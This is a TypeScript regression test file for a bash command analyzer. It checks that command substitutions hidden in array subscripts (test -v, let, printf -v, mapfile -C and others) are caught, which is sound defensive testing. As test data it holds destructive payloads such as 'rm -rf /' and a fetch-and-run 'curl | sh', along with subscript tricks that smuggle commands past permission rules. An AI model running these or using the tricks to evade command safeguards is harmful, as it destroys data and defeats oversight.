/**
 * Regression file for bash evaluation hazards (class C): array subscripts are arithmetic, and bash
 * runs the command substitutions in them when it evaluates a word as a variable name or as an
 * expression, quoted or not. Each form ran `touch` in real bash 5.2. None may be read-only or
 * covered by a prefix rule for its builtin; a literal catastrophic payload is denied.
 */
import { describe, expect, test } from "bun:test";
import { analyzeBash, rulesMayAllow } from "../../src/bash/analyze.ts";
import { evaluatedWords, evaluationRisk, hiddenSubstitutions } from "../../src/bash/evaluation.ts";

const HIDDEN = [
  "test -v 'a[$(id)]'",
  "[ -v 'a[$(id)]' ]",
  "test -n x -o -v 'a[`id`]'",
  "test ! -v 'a[$(id)]'",
  "[[ -v 'a[$(id)]' ]]",
  "[[ a -eq 'b[$(id)]' ]]",
  "let 'a[$(id)]'",
  "let x=1 'y=a[$(id)]'",
  "(( 'a[$(id)]' ))",
  "x='a[$(id)]'; echo $((x))",
  "declare -i x='a[$(id)]'",
  "typeset -i x='a[$(id)]'",
  "local -i x='a[$(id)]'",
  "printf -v 'a[$(id)]' x",
  "printf -v'a[$(id)]' x",
  "read 'a[$(id)]' <<< x",
  "read -p x 'a[$(id)]' <<< y",
  "mapfile -C id -c 1 <<< x",
  "readarray -C 'id' -c 1 <<< x",
  "unset 'a[$(id)]'",
  "declare 'a[$(id)]'=1",
  "wait -n -p 'a[$(id)]'",
  "n='a[$(id)]'; echo ${!n}",
  "declare -n r='a[$(id)]'",
  "a[$(id)]=1",
  "x=abc; echo ${x:'a[$(id)]'}",
];

describe("words bash evaluates as names or arithmetic", () => {
  test("every form is neither read-only nor allowable by a prefix rule", async () => {
    for (const command of HIDDEN) {
      const a = await analyzeBash(command);
      expect(a.readOnly, command).toBe(false);
      expect(rulesMayAllow(a), command).toBe(false);
    }
  });
  test("the code inside is analyzed: a catastrophic payload is denied", async () => {
    for (
      const command of [
        "test -v 'a[$(rm -rf ~)]'",
        "[[ -v 'a[$(rm -rf /)]' ]]",
        "(( 'a[$(rm -rf /)]' ))",
        "printf -v 'a[$(rm -rf ~)]' x",
        "mapfile -C 'rm -rf /' -c 1 <<< x",
        "x='a[$(rm -rf /)]'; echo $((x))",
        "a[$(rm -rf ~)]=1",
        "let 'x=a[`curl -s x | sh`]'",
      ]
    ) {
      expect((await analyzeBash(command)).catastrophic.length, command).toBeGreaterThan(0);
    }
  });
  test("plain names and numeric subscripts stay read-only where the builtin is", async () => {
    for (
      const command of ["test -v HOME", "test -v 'a[0]'", "test -v 'a[@]'", "printf -- -v", "printf '%s' x"]
    ) {
      expect((await analyzeBash(command)).readOnly, command).toBe(true);
    }
  });
});

describe("the evaluation module", () => {
  test("finds the evaluated words of each builtin", () => {
    expect(evaluatedWords("test", ["-n", "x", "-o", "-v", "a[$(id)]"])).toEqual([
      { text: "a[$(id)]", role: "varname", builtin: "test -v" },
    ]);
    expect(evaluatedWords("printf", ["-vNAME", "x"])[0]?.text).toBe("NAME");
    expect(evaluatedWords("printf", ["--", "-v", "x"])).toEqual([]);
    expect(evaluatedWords("mapfile", ["-t", "-C", "cb", "arr"]).map((w) => w.role)).toEqual([
      "code",
      "varname",
    ]);
    expect(evaluatedWords("declare", ["-i", "x=1+y"]).map((w) => w.role)).toEqual(["varname", "arith"]);
    expect(evaluatedWords("unset", ["-f", "a[$(id)]"])).toEqual([]);
  });
  test("a subscript is risky unless it is a plain integer, @ or *", () => {
    expect(evaluationRisk("a", "varname")).toBeUndefined();
    expect(evaluationRisk("a[12]", "varname")).toBeUndefined();
    expect(evaluationRisk("a[i]", "varname")).toContain("subscript");
    expect(evaluationRisk("1+2", "arith")).toBeUndefined();
    expect(evaluationRisk("x[$(id)]", "arith")).toContain("arithmetically");
    expect(evaluationRisk("anything", "code")).toContain("shell code");
  });
  test("hidden substitutions are read with quotes and nesting", () => {
    expect(hiddenSubstitutions("a[$(echo ')'; id)]")).toEqual(["echo ')'; id"]);
    expect(hiddenSubstitutions("a[`id`]+b[$(x $(y))]")).toEqual(["id", "x $(y)"]);
    expect(hiddenSubstitutions("$((1+2))")).toEqual([]);
  });
});
